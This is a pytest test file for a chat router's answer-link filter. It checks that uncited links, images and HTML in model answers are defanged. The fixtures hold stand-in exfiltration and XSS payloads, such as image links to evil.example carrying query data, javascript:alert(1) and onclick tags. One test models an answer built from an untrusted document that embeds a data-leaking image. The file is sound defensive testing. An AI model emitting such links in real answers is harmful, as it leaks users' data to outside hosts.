"""Links, images and HTML in answers that are no citation reach no client as such."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from support.serving import ScriptedGenerator, document, router, serve_router

from contextrouter.text.answer_links import LinkFilter, harmless

CITED = "https://example.org/one"


@pytest.mark.case("SEC-06")
@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("At nine [1].", "At nine [1]."),
        (f"See [the page]({CITED}) and {CITED}.", f"See [the page]({CITED}) and {CITED}."),
        (f"<{CITED}> ![plan]({CITED})", f"<{CITED}> ![plan]({CITED})"),
        ("![x](https://evil.example/?q=1)", "![x] (hxxps://evil.example/?q=1)"),
        ("[x](javascript:alert(1))", "[x] (javascript:alert(1))"),
        ("[x](//evil.example/a)", "[x] (//evil.example/a)"),
        ("[x](&#104;ttps://evil.example/a)", "[x] (&#104;ttps://evil.example/a)"),
        ("![x](< https://evil.example/a b>)", "![x] (< hxxps://evil.example/a b>)"),
        (f"[x]({CITED}?q=secret)", "[x] (hxxps://example.org/one?q=secret)"),
        ("[![x](http://e.example)](HTTP://e.example)", "[![x] (hxxp://e.example)] (HXXP://e.example)"),
        ("![x][r]\n\n[r]: //evil.example/a", "![x][r]\n\n[r] : //evil.example/a"),
        ("[r]:\n  https://evil.example/a", "[r] :\n  hxxps://evil.example/a"),
        ("![x][r]\n\n[r]: /delete?all", "![x][r]\n\n[r] : /delete?all"),
        ("[1]: the fee", "[1]: the fee"),
        ("_https://evil.example/a_ _www.evil.example", "_hxxps://evil.example/a_ _www[.]evil.example"),
        ("Awww. <1@evil.example>", "Awww. &lt;1@evil.example>"),
        ("see https://evil.example/a, www.evil.example", "see hxxps://evil.example/a, www[.]evil.example"),
        ("<img src=https://evil.example>", "&lt;img src=hxxps://evil.example>"),
        ("a < b <3 <https://evil.example>", "a < b <3 &lt;hxxps://evil.example>"),
        ("</div><!-- x --><b onclick='x'>", "&lt;/div>&lt;!-- x -->&lt;b onclick='x'>"),
    ],
)
def test_links_that_are_no_citation_are_made_harmless(text: str, shown: str):
    assert harmless(text, [CITED]) == shown


@pytest.mark.case("SEC-06")
def test_a_citation_allows_no_other_scheme():
    url = "javascript:alert(1)"
    assert harmless(f"[x]({url})", [url]) == f"[x] ({url})"


PARTS = st.sampled_from(
    [
        "](",
        "[x",
        "![",
        ")",
        "<",
        ">",
        "https://",
        "evil.example/",
        "h",
        "tt",
        "p",
        "://",
        "]:",
        " ",
        "\n",
        "www.",
        CITED,
        "&#104;",
    ]
)


@given(st.lists(PARTS, max_size=12).map("".join), st.lists(st.integers(0, 80), max_size=6))
def test_the_output_does_not_depend_on_the_pieces(text: str, cuts: list[int]):
    links, shown, last = LinkFilter([CITED]), "", 0
    for cut in sorted(cuts):
        shown += links.feed(text[last : max(last, cut)])
        last = max(last, min(cut, len(text)))
    shown += links.feed(text[last:]) + links.end()
    assert shown == harmless(text, [CITED])
    rest = re.sub(rf"\]\(<?{re.escape(CITED)}|{re.escape(CITED)}", "", shown)
    assert not re.search(r"\bhttps?://|\]\(|<[A-Za-z/!?]", rest)


@pytest.mark.case("SEC-06")
@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize(
    ("links", "shown"),
    [("cited", "![x] (hxxps://evil.example/?q=pay)"), ("all", "![x](https://evil.example/?q=pay)")],
)
async def test_an_answer_loads_nothing_from_a_stranger(links: str, shown: str, stream: bool):
    said = ScriptedGenerator("At nine [1] ![", "x](https://evil", ".example/?q=pay)")
    made = router(
        {"chat": {"synthesis_model": "said", "answer_links": links}},
        answer=[document("one", "The library opens at nine.", untrusted=True)],
        generators={"said": said},
    )
    body = {"model": "contextrouter", "messages": [{"role": "user", "content": "When?"}], "stream": stream}
    async with serve_router(made) as ask:
        reply = await ask("/v1/chat/completions", body)
    if stream:
        chunks = [data for _, data in reply.events if data != "[DONE]"]
        deltas = [chunk["choices"][0]["delta"] for chunk in chunks if chunk["choices"]]
        text = "".join(delta.get("content", "") for delta in deltas)
    else:
        text = reply.json["choices"][0]["message"]["content"]
    assert text == f"At nine [1] {shown}"
